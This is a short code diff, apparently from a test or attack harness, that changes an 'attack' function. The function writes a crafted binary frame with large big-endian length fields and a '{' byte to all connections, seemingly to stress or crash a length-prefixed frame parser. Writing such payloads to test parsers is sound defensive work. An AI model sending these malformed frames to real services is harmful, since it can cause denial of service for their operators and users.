@@ -1,4 +1,4 @@
 # include: frames.py
 
 def attack(inputs):
-    write_to_all((1 << 20).to_bytes(4, "big") + (60 << 20).to_bytes(4, "big") + b"{")
+    write_to_all((1 << 10).to_bytes(4, "big") + (1 << 20).to_bytes(4, "big") + b"{")
